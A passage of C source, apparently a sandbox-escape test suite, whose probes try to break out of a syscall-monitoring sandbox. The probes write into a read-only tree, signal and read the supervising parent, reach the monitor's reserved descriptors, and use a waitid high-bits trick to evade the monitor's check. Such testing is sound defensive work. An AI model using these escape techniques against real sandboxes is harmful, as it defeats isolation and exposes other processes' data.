	if (r != 1 || !c || c->cmsg_type != SCM_RIGHTS) {
		printf("no descriptors received (recvmsg %zd: %s)\n", r, strerror(errno));
		exit(2);
	}
	int fds[2];
	memcpy(fds, CMSG_DATA(c), sizeof fds);
	int owner = fcntl(fds[0], F_GETOWN);
	int s1 = fcntl(fds[0], F_SETSIG, SIGKILL);
	int e1 = errno;
	int fl = fcntl(fds[0], F_GETFL);
	int s2 = fcntl(fds[0], F_SETFL, fl | O_ASYNC);
	int e2 = errno;
	printf("received pipe %d/%d, SIGIO owner %d; F_SETSIG SIGKILL: %s; O_ASYNC: %s\n", fds[0], fds[1], owner, s1 ? strerror(e1) : "ok", s2 ? strerror(e2) : "ok");
	if (write(fds[1], "x", 1) != 1)
		printf("write: %s\n", strerror(errno));
	usleep(200000);
	if (s1 == 0 && s2 == 0 && owner > 0 && owner != getpid()) {
		printf("ESCAPED: %s: SIGKILL sent (as SIGIO) to process %d outside the sandbox\n", name, owner);
		fflush(stdout);
		exit(1);
	}
	contained();
}

/* ---- round 8 ---- */

/* A file in the read-only tree, opened O_RDONLY and mapped shared: made writable by
 * mprotect, moved by mremap, its pages dropped by MADV_REMOVE, written through
 * /proc/self/mem. */
static void shared_map_ro_write(const char *ro) {
	char path[4096];
	snprintf(path, sizeof path, "%s/marker", ro);
	int f = open(path, O_RDONLY);
	if (f < 0) {
		printf("open %s: %s\n", path, strerror(errno));
		exit(2);
	}
	char *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, f, 0);
	if (p == MAP_FAILED) {
		printf("mmap shared read-only: %s\n", strerror(errno));
		exit(2);
	}
	int r1 = mprotect(p, 4096, PROT_READ | PROT_WRITE);
	printf("mprotect(PROT_WRITE): %s\n", r1 ? strerror(errno) : "ok");
	void *w = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, f, 0);
	printf("mmap(PROT_WRITE, MAP_SHARED) of an O_RDONLY file: %s\n", w == MAP_FAILED ? strerror(errno) : "ok");
	int r2 = madvise(p, 4096, MADV_REMOVE);
	printf("madvise(MADV_REMOVE): %s\n", r2 ? strerror(errno) : "ok");
	int m = open("/proc/self/mem", O_RDWR);
	ssize_t r3 = -1;
	if (m >= 0) {
		r3 = pwrite(m, "PWNED", 5, (off_t)(uintptr_t)p);
		printf("pwrite /proc/self/mem at the mapping: %zd (%s)\n", r3, r3 < 0 ? strerror(errno) : "ok");
		close(m);
	} else
		printf("open /proc/self/mem: %s\n", strerror(errno));
	struct iovec l = { (void *)"PWNED", 5 }, rr = { p, 5 };
	ssize_t r4 = syscall(SYS_process_vm_writev, getpid(), &l, 1, &rr, 1, 0);
	printf("process_vm_writev on itself into the mapping: %zd (%s)\n", r4, r4 < 0 ? strerror(errno) : "ok");
	if (r1 == 0) {
		p[0] = 'P';
		msync(p, 4096, MS_SYNC);
	}
	if (w != MAP_FAILED) {
		((char *)w)[0] = 'P';
		msync(w, 4096, MS_SYNC);
	}
	char buf[64] = { 0 };
	int g = open(path, O_RDONLY);
	ssize_t n = read(g, buf, sizeof buf - 1);
	close(g);
	if (n < 0 || strcmp(buf, "read-only\n"))
		escaped("%s in the read-only tree changed: now \"%s\"", path, buf);
	contained();
}

static long stat_field(const char *file, int field) {
	char buf[4096] = { 0 };
	int f = open(file, O_RDONLY);
	if (f < 0)
		return 0;
	ssize_t n = read(f, buf, sizeof buf - 1);
	close(f);
	if (n <= 0)
		return 0;
	char *q = strrchr(buf, ')');
	if (!q)
		return 0;
	q += 2;
	for (int i = 3; i < field && q; i++) {
		q = strchr(q, ' ');
		if (q)
			q++;
	}
	return q ? strtol(q, NULL, 10) : 0;
}

/* The supervisor (this process's parent, outside the sandbox): stopped by a signal
 * through kill or a pidfd, read with process_vm_readv; the monitor's own code read
 * with process_vm_readv on this process. */
static void parent_reach(void) {
	pid_t pp = getppid();
	printf("parent %d\n", (int)pp);
	int k = kill(pp, SIGSTOP);
	printf("kill(parent, SIGSTOP): %s\n", k ? strerror(errno) : "ok");
	if (!k)
		kill(pp, SIGCONT);
	int pfd = syscall(SYS_pidfd_open, pp, 0);
	printf("pidfd_open(parent): %d (%s)\n", pfd, pfd < 0 ? strerror(errno) : "ok");
	long s = -1;
	if (pfd >= 0) {
		s = syscall(SYS_pidfd_send_signal, pfd, SIGSTOP, NULL, 0);
		printf("pidfd_send_signal(parent, SIGSTOP): %s\n", s ? strerror(errno) : "ok");
		if (!s)
			syscall(SYS_pidfd_send_signal, pfd, SIGCONT, NULL, 0);
		long g = syscall(SYS_pidfd_getfd, pfd, 0, 0);
		printf("pidfd_getfd(parent, 0): %ld (%s)\n", g, g < 0 ? strerror(errno) : "ok");
		if (g >= 0)
			escaped("took descriptor 0 of the supervisor outside as %ld", g);
	}
	char buf[64];
	long start = stat_field("/proc/self/stat", 26);
	printf("monitor code at %#lx (stat field 26)\n", start);
	struct iovec l = { buf, sizeof buf }, r = { (void *)start, sizeof buf };
	ssize_t n = start ? syscall(SYS_process_vm_readv, getpid(), &l, 1, &r, 1, 0) : -1;
	printf("process_vm_readv(self, monitor code): %zd (%s)\n", n, n < 0 ? strerror(errno) : "ok");
	ssize_t n2 = syscall(SYS_process_vm_readv, pp, &l, 1, &r, 1, 0);
	printf("process_vm_readv(parent): %zd (%s)\n", n2, n2 < 0 ? strerror(errno) : "ok");
	ssize_t n3 = start ? syscall(SYS_process_vm_writev, getpid(), &l, 1, &r, 1, 0) : -1;
	printf("process_vm_writev(self, monitor code): %zd (%s)\n", n3, n3 < 0 ? strerror(errno) : "ok");
	if (!k || !s)
		escaped("the supervisor outside (%d) took SIGSTOP", (int)pp);
	if (n > 0 || n2 > 0 || n3 > 0)
		escaped("read or wrote memory outside the program's (%zd, %zd, %zd bytes)", n, n2, n3);
	contained();
}

/* RLIMIT_NOFILE raised (setrlimit, prlimit64) so that descriptors reach the
 * runtime's and the monitor's numbers. */
static void nofile_raise(void) {
	struct rlimit o;
	getrlimit(RLIMIT_NOFILE, &o);
	printf("RLIMIT_NOFILE %lu/%lu\n", (unsigned long)o.rlim_cur, (unsigned long)o.rlim_max);
	struct rlimit big = { 1 << 20, 1 << 20 };
	int a = setrlimit(RLIMIT_NOFILE, &big);
	printf("setrlimit(1M): %s\n", a ? strerror(errno) : "ok");
	int b = syscall(SYS_prlimit64, 0, RLIMIT_NOFILE, &big, NULL);
	printf("prlimit64(0, 1M): %s\n", b ? strerror(errno) : "ok");
	struct rlimit up = { o.rlim_max, o.rlim_max };
	setrlimit(RLIMIT_NOFILE, &up);
	struct rlimit now_;
	getrlimit(RLIMIT_NOFILE, &now_);
	printf("now %lu/%lu\n", (unsigned long)now_.rlim_cur, (unsigned long)now_.rlim_max);
	int hi = -1, first = (int)now_.rlim_cur - 4;
	for (int i = 0; i < 64; i++) {
		int d = fcntl(0, F_DUPFD, first < 3 ? 3 : first);
		if (d < 0)
			break;
		if (d > hi)
			hi = d;
	}
	printf("highest F_DUPFD: %d\n", hi);
	int hits = 0;
	for (int n = (int)now_.rlim_cur; n < (int)now_.rlim_cur + 4096; n++) {
		if (fcntl(n, F_GETFD) >= 0 || dup2(0, n) == n) {
			if (!hits)
				printf("descriptor %d answers\n", n);
			hits++;
		}
	}
	if (hi >= (int)o.rlim_max || hits)
		escaped("descriptors at or above the program's limit %lu (highest %d, %d answered)", (unsigned long)o.rlim_max, hi, hits);
	contained();
}

/* renameat2(RENAME_EXCHANGE) between the writable tree and a read-only tree, and a
 * file linked from the read-only tree (link, linkat through /proc/self/fd). */
static void rename_exchange(const char *ro, const char *rw) {
	char a[4096], b[4096], c[4096], pf[64];
	snprintf(a, sizeof a, "%s/mine", rw);
	snprintf(b, sizeof b, "%s/marker", ro);
	snprintf(c, sizeof c, "%s/linked", rw);
	int f = open(a, O_CREAT | O_WRONLY | O_TRUNC, 0644);
	if (f < 0 || write(f, "PWNED\n", 6) != 6) {
		printf("create %s: %s\n", a, strerror(errno));
		exit(2);
	}
	close(f);
	long r = syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */);
	printf("renameat2(RENAME_EXCHANGE): %ld (%s)\n", r, r ? strerror(errno) : "ok");
	int l1 = link(b, c);
	printf("link(ro/marker, rw/linked): %s\n", l1 ? strerror(errno) : "ok");
	int g = open(b, O_RDONLY);
	snprintf(pf, sizeof pf, "/proc/self/fd/%d", g);
	int l2 = linkat(AT_FDCWD, pf, AT_FDCWD, c, AT_SYMLINK_FOLLOW);
	printf("linkat(/proc/self/fd/N, rw/linked, AT_SYMLINK_FOLLOW): %s\n", l2 ? strerror(errno) : "ok");
	int l3 = linkat(g, "", AT_FDCWD, c, AT_EMPTY_PATH);
	printf("linkat(fd, \"\", rw/linked, AT_EMPTY_PATH): %s\n", l3 ? strerror(errno) : "ok");
	close(g);
	int h = open(c, O_WRONLY | O_APPEND);
	if (h >= 0) {
		ssize_t w = write(h, "PWNED\n", 6);
		printf("append through the link: %zd\n", w);
		close(h);
	}
	char buf[64] = { 0 };
	g = open(b, O_RDONLY);
	ssize_t n = read(g, buf, sizeof buf - 1);
	close(g);
	if (n < 0 || strcmp(buf, "read-only\n"))
		escaped("%s in the read-only tree changed: now \"%s\"", b, buf);
	contained();
}

/* The supervisor's /proc entries (the parent is outside the sandbox). */
static void proc_parent(void) {
	pid_t pp = getppid();
	const char *what[] = { "environ", "cmdline", "maps", "auxv", "fdinfo/0", "fd/0", "cwd/.", "root/proc/self/status", "task", "stack", "syscall", "personality", "mem" };
	int got = 0;
	for (size_t i = 0; i < sizeof what / sizeof *what; i++) {
		char p[256], buf[256];
		snprintf(p, sizeof p, "/proc/%d/%s", (int)pp, what[i]);
		int f = open(p, O_RDONLY);
		ssize_t n = f >= 0 ? read(f, buf, sizeof buf) : -1;
		printf("%s: open %s, read %zd (%s)\n", p, f >= 0 ? "ok" : strerror(errno), n, n < 0 ? strerror(errno) : "ok");
		if (n > 0 && strcmp(what[i], "cmdline") && strcmp(what[i], "root/proc/self/status"))
			got++;
		if (f >= 0)
			close(f);
		char l[256];
		ssize_t k = readlink(p, l, sizeof l);
		if (k > 0)
			printf("  readlink: %.*s\n", (int)k, l);
	}
	if (got)
		escaped("%d entries of the supervisor's /proc (outside) read", got);
	contained();
}

/* DIR is outside every tree (isolated policy): mountinfo and net/unix reached through
 * other names than /proc/self/... (aliases, relative lookups, a symlink planted in the
 * writable tree). */
static void proc_aliases(const char *dir, const char *rw) {
	char tid[64], ln[4096];
	snprintf(tid, sizeof tid, "%ld", (long)syscall(SYS_gettid));
	snprintf(ln, sizeof ln, "%s/mi", rw);
	symlink("/proc/self/mountinfo", ln);
	char ln2[4096];
	snprintf(ln2, sizeof ln2, "%s/nu", rw);
	symlink("/proc/net/unix", ln2);
	char t1[256], t2[256], t3[256], t4[256];
	snprintf(t1, sizeof t1, "/proc/self/task/%s/mountinfo", tid);
	snprintf(t2, sizeof t2, "/proc/self/task/%s/net/unix", tid);
	snprintf(t3, sizeof t3, "/proc/%d/task/%s/mountinfo", (int)getpid(), tid);
	snprintf(t4, sizeof t4, "/proc/%d/mounts", (int)getpid());
	const char *paths[] = { "/proc/net/unix", "/proc/mounts", "/proc/thread-self/mountinfo", "/proc/thread-self/net/unix", t1, t2, t3, t4, "/dev/fd/../mountinfo", "/proc/self/fdinfo/../mountinfo", "/proc//self/./mountinfo", "/proc/self/task/../mountinfo", ln, ln2 };
	int hits = 0;
	char l[1024];
	for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
		l[0] = 0;
		if (lines_with(paths[i], dir, l, sizeof l)) {
			printf("%s names DIR: %s\n", paths[i], l);
			hits++;
		}
	}
	/* Relative lookups from directory descriptors. */
	const char *bases[] = { "/proc", "/proc/self", "/proc/thread-self", "/proc/self/task" };
	const char *rel[] = { "net/unix", "mountinfo", "self/mountinfo", "../mountinfo", "mounts" };
	for (size_t b = 0; b < 4; b++) {
		for (int fl = 0; fl < 2; fl++) {
			int d = open(bases[b], (fl ? O_PATH : O_RDONLY) | O_DIRECTORY);
			if (d < 0)
				continue;
			for (size_t r = 0; r < 5; r++) {
				int f = openat(d, rel[r], O_RDONLY);
				if (f < 0)
					continue;
				char buf[65536];
				ssize_t n, tot = 0;
				int found = 0;
				while ((n = read(f, buf, sizeof buf - 1)) > 0) {
					buf[n] = 0;
					tot += n;
					if (strstr(buf, dir))
						found = 1;
				}
				close(f);
				printf("openat(%s%s, %s): %zd bytes%s\n", bases[b], fl ? " O_PATH" : "", rel[r], tot, found ? ", names DIR" : "");
				hits += found;
			}
			close(d);
		}
	}
	if (hits)
		escaped("%d names of /proc gave paths outside every tree", hits);
	contained();
}

/* The runtime's and the monitor's descriptors (at and above the program's
 * RLIMIT_NOFILE) opened again through their magic links under other names. */
static void reserved_fd_reopen(void) {
	struct rlimit o;
	getrlimit(RLIMIT_NOFILE, &o);
	long base = (long)o.rlim_max;
	char tid[32];
	snprintf(tid, sizeof tid, "%ld", (long)syscall(SYS_gettid));
	int got = 0;
	for (long n = base; n < base + 300; n++) {
		char p[5][256];
		snprintf(p[0], 256, "/proc/self/fd/%ld", n);
		snprintf(p[1], 256, "/dev/fd/%ld", n);
		snprintf(p[2], 256, "/proc/thread-self/fd/%ld", n);
		snprintf(p[3], 256, "/proc/%d/task/%s/fd/%ld", (int)getpid(), tid, n);
		snprintf(p[4], 256, "/proc/self/fd/%07ld", n);
		for (int k = 0; k < 5; k++) {
			int fl[3] = { O_RDONLY, O_WRONLY, O_PATH };
			for (int j = 0; j < 3; j++) {
				int f = open(p[k], fl[j] | O_NONBLOCK | O_NOCTTY);
				char l[256];
				ssize_t r = readlink(p[k], l, sizeof l - 1);
				if (r > 0) {
					l[r] = 0;
					if (!got)
						printf("readlink %s: %s\n", p[k], l);
					got++;
				}
				if (f >= 0) {
					struct stat st;
					fstat(f, &st);
					printf("open %s (%d): ok, mode %#o\n", p[k], fl[j], st.st_mode);
					got++;
					close(f);
				}
			}
		}
	}
	int d = open("/proc/self/fd", O_RDONLY | O_DIRECTORY);
	if (d >= 0) {
		for (long n = base; n < base + 300; n++) {
			char nm[32];
			snprintf(nm, sizeof nm, "%ld", n);
			int f = openat(d, nm, O_RDONLY | O_NONBLOCK);
			if (f >= 0) {
				printf("openat(/proc/self/fd, %s): ok\n", nm);
				got++;
				close(f);
			}
		}
		close(d);
	}
	if (got)
		escaped("%d of the monitor's or the runtime's descriptors reached by name (from %ld)", got, base);
	contained();
}

/* An O_TMPFILE file made in the writable tree, linked into the read-only tree
 * (linkat AT_EMPTY_PATH, and through /proc/self/fd with AT_SYMLINK_FOLLOW). */
static void tmpfile_link(const char *ro, const char *rw) {
	int f = open(rw, O_TMPFILE | O_RDWR, 0644);
	if (f < 0) {
		printf("O_TMPFILE in %s: %s\n", rw, strerror(errno));
		contained();
	}
	if (write(f, "PWNED\n", 6) != 6)
		exit(2);
	char dst[4096], pf[64];
	snprintf(dst, sizeof dst, "%s/planted", ro);
	int r1 = linkat(f, "", AT_FDCWD, dst, AT_EMPTY_PATH);
	printf("linkat(tmpfile, \"\", RO/planted, AT_EMPTY_PATH): %s\n", r1 ? strerror(errno) : "ok");
	snprintf(pf, sizeof pf, "/proc/self/fd/%d", f);
	int r2 = linkat(AT_FDCWD, pf, AT_FDCWD, dst, AT_SYMLINK_FOLLOW);
	printf("linkat(/proc/self/fd/N, RO/planted, AT_SYMLINK_FOLLOW): %s\n", r2 ? strerror(errno) : "ok");
	int d = open(ro, O_PATH | O_DIRECTORY);
	int r3 = linkat(f, "", d, "planted", AT_EMPTY_PATH);
	printf("linkat(tmpfile, \"\", RO dirfd O_PATH, planted): %s\n", r3 ? strerror(errno) : "ok");
	int r4 = renameat2(AT_FDCWD, pf, d, "planted", 0);
	printf("renameat2(/proc/self/fd/N, RO/planted): %s\n", r4 ? strerror(errno) : "ok");
	struct stat st;
	if (!stat(dst, &st))
		escaped("a file was linked into the read-only tree: %s", dst);
	contained();
}

static int shared_word;
static int clone_vm_child(void *a) {
	(void)a;
	shared_word = 42;
	return 0;
}

/* clone(CLONE_VM) without CLONE_THREAD (a second process in this address space, the
 * monitor's included) and vfork: the monitor must survive and hold both. */
static void clone_vm_process(const char *ro) {
	static char stack[65536] __attribute__((aligned(16)));
	fflush(stdout);
	int c = clone(clone_vm_child, stack + sizeof stack, CLONE_VM | SIGCHLD, NULL);
	printf("clone(CLONE_VM|SIGCHLD): %d (%s)\n", c, c < 0 ? strerror(errno) : "ok");
	if (c > 0) {
		int st = 0;
		waitpid(c, &st, 0);
		printf("child status %#x, shared word %d\n", st, shared_word);
	}
	fflush(stdout);
	char path[4096];
	snprintf(path, sizeof path, "%s/marker", ro);
	pid_t v = vfork();
	if (v == 0) {
		int f = open(path, O_WRONLY | O_TRUNC);
		if (f >= 0)
			_exit(write(f, "PWNED\n", 6) == 6 ? 7 : 8);
		char *argv[] = { "/bin/true", NULL };
		execv("/bin/true", argv);
		_exit(9);
	}
	int st = 0;
	if (v > 0)
		waitpid(v, &st, 0);
	printf("vfork: %d, status %#x\n", v, st);
	c = clone(clone_vm_child, stack + sizeof stack, CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);
	printf("clone(CLONE_VM|CLONE_VFORK|SIGCHLD): %d (%s)\n", c, c < 0 ? strerror(errno) : "ok");
	if (c > 0)
		waitpid(c, NULL, 0);
	char buf[64] = { 0 };
	int g = open(path, O_RDONLY);
	ssize_t n = read(g, buf, sizeof buf - 1);
	close(g);
	if (n < 0 || strcmp(buf, "read-only\n"))
		escaped("%s in the read-only tree changed: now \"%s\"", path, buf);
	contained();
}

/* Descriptor 3 is a directory outside every tree (isolated policy) that a process
 * outside hands over; it holds "secret". Its entries reached relative to it:
 * opened, moved or linked into RW, through fchdir, through "..". */
static void inherited_dir_escape(const char *rw) {
	char buf[256] = { 0 }, dst[4096];
	int got = 0;
	int f = openat(3, "secret", O_RDONLY);
	printf("openat(3, secret): %s\n", f < 0 ? strerror(errno) : "ok");
	if (f >= 0 && read(f, buf, sizeof buf - 1) > 0 && strstr(buf, "SECRET"))
		got++;
	struct stat st;
	int s1 = fstatat(3, "secret", &st, 0);
	printf("fstatat(3, secret): %s\n", s1 ? strerror(errno) : "ok");
	snprintf(dst, sizeof dst, "%s/moved", rw);
	int r1 = renameat(3, "secret", AT_FDCWD, dst);
	printf("renameat(3, secret, RW/moved): %s\n", r1 ? strerror(errno) : "ok");
	snprintf(dst, sizeof dst, "%s/linked", rw);
	int r2 = linkat(3, "secret", AT_FDCWD, dst, 0);
	printf("linkat(3, secret, RW/linked): %s\n", r2 ? strerror(errno) : "ok");
	int c = fchdir(3);
	printf("fchdir(3): %s\n", c ? strerror(errno) : "ok");
	int g = open("secret", O_RDONLY);
	printf("open(secret) after fchdir: %s\n", g < 0 ? strerror(errno) : "ok");
	memset(buf, 0, sizeof buf);
	if (g >= 0 && read(g, buf, sizeof buf - 1) > 0 && strstr(buf, "SECRET"))
		got++;
	int h = openat(3, "../outside-dir/secret", O_RDONLY);
	printf("openat(3, ../outside-dir/secret): %s\n", h < 0 ? strerror(errno) : "ok");
	int u = unlinkat(3, "secret", 0);
	printf("unlinkat(3, secret): %s\n", u ? strerror(errno) : "ok");
	int mk = mkdirat(3, "made", 0755);
	printf("mkdirat(3, made): %s\n", mk ? strerror(errno) : "ok");
	int ch = fchmodat(3, "secret", 0666, 0);
	printf("fchmodat(3, secret, 0666): %s\n", ch ? strerror(errno) : "ok");
	if (got || !r1 || !r2 || !u || !mk || !ch)
		escaped("reached a directory outside every tree through an inherited descriptor (read %d, rename %d, link %d, unlink %d, mkdir %d, chmod %d)", got, r1, r2, u, mk, ch);
	contained();
}

/* ---- round 9 ----------------------------------------------------------------------- */

static volatile int race_fd = -1;
static volatile int race_stop;
static volatile long race_ok, race_tries;

static void *shrink_loop(void *arg) {
	(void)arg;
	while (!race_stop) {
		int f = race_fd;
		race_tries++;
		if (f >= 0 && fcntl(f, F_SETPIPE_SZ, 4096) >= 0)
			race_ok++;
	}
	return NULL;
}

/* stdin: a unix stream socket; the peer (outside) sends, one per byte, the read ends
 * of pipes it made and keeps (each a pipe of its own, so each is "new" to the monitor).
 * A sibling spins on F_SETPIPE_SZ at the number recvmsg gives: refused on a pipe the
 * monitor knows is shared, allowed on one it has not noted yet. */
static void received_fd_race(void) {
	int probe = dup(0);
	if (probe < 0)
		exit(2);
	close(probe);
	race_fd = probe;
	pthread_t th;
	if (pthread_create(&th, NULL, shrink_loop, NULL))
		exit(2);
	int n = 0, shrunk = 0, other = 0;
	for (;;) {
		char byte;
		struct iovec io = { &byte, 1 };
		union {
			struct cmsghdr h;
			char b[CMSG_SPACE(sizeof(int))];
		} u;
		memset(&u, 0, sizeof u);
		struct msghdr m;
		memset(&m, 0, sizeof m);
		m.msg_iov = &io;
		m.msg_iovlen = 1;
		m.msg_control = u.b;
		m.msg_controllen = sizeof u.b;
		ssize_t r = recvmsg(0, &m, 0);
		if (r <= 0)
			break;
		struct cmsghdr *c = CMSG_FIRSTHDR(&m);
		if (!c || c->cmsg_type != SCM_RIGHTS)
			continue;
		int fd;
		memcpy(&fd, CMSG_DATA(c), sizeof fd);
		n++;
		if (fd != probe)
			other++, race_fd = fd;
		if (fcntl(fd, F_GETPIPE_SZ) == 4096)
			shrunk++;
		close(fd);
	}
	race_stop = 1;
	pthread_join(th, NULL);
	printf("received %d pipes (%d at another number), sibling tried %ld times, %ld succeeded, %d shrunk\n", n, other, race_tries, race_ok, shrunk);
	if (shrunk || race_ok)
		escaped("a sibling shrank %d of the pipes a process outside made, keeps and sent (%ld F_SETPIPE_SZ calls succeeded)", shrunk, race_ok);
	contained();
}

static void reserved_fd_probe(void) {
	struct rlimit rl;
	if (getrlimit(RLIMIT_NOFILE, &rl))
		exit(2);
	rl.rlim_cur = rl.rlim_max;
	setrlimit(RLIMIT_NOFILE, &rl);
	getrlimit(RLIMIT_NOFILE, &rl);
	long lo = rl.rlim_max, hi = 65536 + 4096;
	long chunk = rl.rlim_cur < 512 ? (long)rl.rlim_cur : 512;
	printf("RLIMIT_NOFILE %ld/%ld: probing %ld..%ld\n", (long)rl.rlim_cur, (long)rl.rlim_max, lo, hi);
	/* A child, so that the monitor holds a pidfd of it. */
	pid_t kid = fork();
	if (kid == 0) {
		sleep(60);
		_exit(0);
	}
	int found = 0;
	struct pollfd *p = calloc(chunk, sizeof *p);
	long p_open = 0, p_first = -1;
	short p_rev = 0;
	for (long b = lo; b < hi; b += chunk) {
		for (long i = 0; i < chunk; i++)
			p[i].fd = b + i, p[i].events = POLLIN | POLLOUT, p[i].revents = 0;
		int r = poll(p, chunk, 0);
		if (r < 0) {
			printf("poll of %ld at %ld: %s\n", chunk, b, strerror(errno));
			break;
		}
		for (long i = 0; i < chunk; i++)
			if (p[i].revents && !(p[i].revents & POLLNVAL)) {
				if (p_first < 0)
					p_first = b + i, p_rev = p[i].revents;
				p_open++;
			}
	}
	printf("poll: %ld open descriptors at or above %ld (first %ld, revents %#x)\n", p_open, lo, p_first, p_rev);
	if (p_open)
		found++, printf("ESCAPED: %s: poll answers for %ld of the runtime's and monitor's descriptors\n", name, p_open);
	long w_pidfd = -1;
	for (long f = lo; f < hi && kid > 0; f++) {
		siginfo_t si;
		memset(&si, 0, sizeof si);
		long r = syscall(SYS_waitid, 3 /* P_PIDFD */, f, &si, WEXITED | WNOHANG, NULL);
		if (r == 0 || (r < 0 && errno != EBADF && errno != EINVAL)) {
			w_pidfd = f;
			break;
		}
	}
	printf("waitid(P_PIDFD): monitor pidfd at %ld\n", w_pidfd);
	if (w_pidfd >= 0)
		found++, printf("ESCAPED: %s: waitid(P_PIDFD) accepts the monitor's descriptor %ld\n", name, w_pidfd);
	static unsigned long bits[(65536 + 4096) / 64];
	long s_open = 0, s_first = -1;
	for (long f = lo; f < hi; f++) {
		memset(bits, 0, sizeof bits);
		bits[f / 64] |= 1UL << (f % 64);
		struct timeval tv = { 0, 0 };
		long r = syscall(SYS_select, f + 1, NULL, bits, NULL, &tv);
		/* 1 and the bit set: an open descriptor, ready for writing (a closed one in the
		 * table is EBADF; numbers past the table are not looked at: 0). */
		if (r == 1 && (bits[f / 64] & (1UL << (f % 64)))) {
			if (s_first < 0)
				s_first = f;
			s_open++;
		}
	}
	printf("select: %ld open descriptors at or above %ld (first %ld)\n", s_open, lo, s_first);
	if (s_open)
		found++, printf("ESCAPED: %s: select tells open from closed for %ld numbers above the limit\n", name, s_open);
	if (kid > 0) {
		kill(kid, SIGKILL);
		waitpid(kid, NULL, 0);
	}
	if (found)
		exit(1);
	contained();
}

/* Policy: --allow-net 127.0.0.1:9 only. Joins 239.77.66.55 and ff15::7766:5544 on every
 * interface index it can, says so, and holds the memberships until stdin says "go". */
static void multicast_join(void) {
	int s4 = socket(AF_INET, SOCK_DGRAM, 0), s6 = socket(AF_INET6, SOCK_DGRAM, 0);
	int j4 = 0, j6 = 0;
	for (int idx = 0; idx < 32 && s4 >= 0; idx++) {
		struct ip_mreqn mr;
		memset(&mr, 0, sizeof mr);
		inet_pton(AF_INET, "239.77.66.55", &mr.imr_multiaddr);
		mr.imr_ifindex = idx;
		if (setsockopt(s4, IPPROTO_IP, IP_ADD_MEMBERSHIP, &mr, sizeof mr) == 0)
			j4++;
	}
	for (int idx = 0; idx < 32 && s6 >= 0; idx++) {
		struct ipv6_mreq mr;
		memset(&mr, 0, sizeof mr);
		inet_pton(AF_INET6, "ff15::7766:5544", &mr.ipv6mr_multiaddr);
		mr.ipv6mr_interface = idx;
		if (setsockopt(s6, IPPROTO_IPV6, IPV6_ADD_MEMBERSHIP, &mr, sizeof mr) == 0)
			j6++;
	}
	printf("joined %d %d\n", j4, j6);
	fflush(stdout);
	char buf[16];
	if (read(0, buf, sizeof buf) < 0)
		exit(2);
	if (j4 || j6)
		escaped("joined multicast groups on %d (IPv4) and %d (IPv6) interfaces with no rule", j4, j6);
	contained();
}

/* ---- round 10 ---------------------------------------------------------------------- */

/* waitid(P_PIDFD) is checked by the monitor only when its first argument, as a 64-bit
 * value, is 3; Linux reads `int which` (the low 32 bits). 0x100000003 is P_PIDFD to
 * the kernel and "not P_PIDFD" to the monitor: the descriptor number is passed on
 * unchecked, and the monitor's pidfd of a child (at its reserved numbers) answers. */
static void waitid_which_high_bits(void) {
	struct rlimit rl;
	if (getrlimit(RLIMIT_NOFILE, &rl))
		exit(2);
	long lo = rl.rlim_max, hi = 65536 + 4096;
	pid_t kid = fork();
	if (kid == 0) {
		sleep(60);
		_exit(0);
	}
	if (kid < 0)
		exit(2);
	long plain = -1, high = -1;
	for (long f = lo; f < hi; f++) {
		siginfo_t si;
		memset(&si, 0, sizeof si);
		long r = syscall(SYS_waitid, 3L /* P_PIDFD */, f, &si, WEXITED | WNOHANG, NULL);
		if (r == 0 || (r < 0 && errno != EBADF && errno != EINVAL)) {
			plain = f;
			break;
		}
	}
	int err = 0;
	for (long f = lo; f < hi; f++) {
		siginfo_t si;
		memset(&si, 0, sizeof si);
		long r = syscall(SYS_waitid, 0x100000003L /* P_PIDFD in the low 32 bits */, f, &si, WEXITED | WNOHANG, NULL);
		if (r == 0 || (r < 0 && errno != EBADF && errno != EINVAL)) {
			high = f, err = r < 0 ? errno : 0;
			break;
		}
	}
	printf("limit %ld: waitid(3, N): pidfd at %ld; waitid(0x100000003, N): pidfd at %ld (%s)\n", lo, plain, high, err ? strerror(err) : "ok");
	int reaped = 0;
	if (high >= 0) {
		/* The monitor's pidfd is usable: end the child and reap it through it. */
		kill(kid, SIGKILL);
		siginfo_t si;
		memset(&si, 0, sizeof si);
		long r = syscall(SYS_waitid, 0x100000003L, high, &si, WEXITED, NULL);
		reaped = r == 0 && si.si_pid == kid;
		printf("reaped child %d through the monitor's descriptor %ld: %s (si_pid %d)\n", kid, high, reaped ? "yes" : "no", si.si_pid);
	}
	kill(kid, SIGKILL);
	waitpid(kid, NULL, 0);
	if (plain >= 0 || high >= 0)
		escaped("waitid(P_PIDFD) with the idtype's upper 32 bits set used the monitor's descriptor %ld (the pidfd of child %d; reaped through it: %d)", high >= 0 ? high : plain, kid, reaped);
	contained();
}

/* Forks while a sibling holds a lock of the monitor or of the runtime that fork does
 * not take, and checks that each child runs to its end. `child_op` runs in the child
 * after it has written one byte to `report` (so a hang before that byte is at birth,
 * in the runtime's or monitor's fork path; one after it is in the call `child_op`
 * makes). Returns (hung at birth, hung in the call). */
static volatile int busy_stop;

static void fork_and_watch(int rounds, double seconds, void (*child_op)(void), int *birth, int *call, int *done) {
	int rep[2];
	if (pipe2(rep, O_NONBLOCK))
		exit(2);
	double until = now() + seconds;
	*birth = *call = *done = 0;
	for (int i = 0; i < rounds && now() < until && *birth + *call < 3; i++) {
		pid_t k = fork();
		if (k == 0) {
			(void)!write(rep[1], "b", 1);
			child_op();
			_exit(0);
		}
		if (k < 0) {
			usleep(1000);
			continue;
		}
		double give_up = now() + 4;
		int st = 0, gone = 0;
		while (now() < give_up) {
			pid_t w = waitpid(k, &st, WNOHANG);
			if (w == k) {
				gone = 1;
				break;
			}
			usleep(2000);
		}
		char b[8];
		ssize_t got = read(rep[0], b, sizeof b);
		if (!gone) {
			printf("child %d (fork %d) still running after 4 s; %s\n", k, i, got > 0 ? "it started (hung in its call)" : "it never started (hung at birth)");
			fflush(stdout);
			if (got > 0)
				(*call)++;
			else
				(*birth)++;
			kill(k, SIGKILL);
			waitpid(k, NULL, 0);
		} else {
			(*done)++;
		}
	}
	close(rep[0]);
	close(rep[1]);
}

/* The child's call: one that asks the monitor whether a pipe of the child's own is
 * shared with the outside (fdtable::is_outer_file, under the RECEIVED lock). */
static void child_pipe_size(void) {
	int p[2];
	if (pipe(p))
		_exit(3);
	fcntl(p[0], F_SETPIPE_SZ, 8192);
	int one = 1;
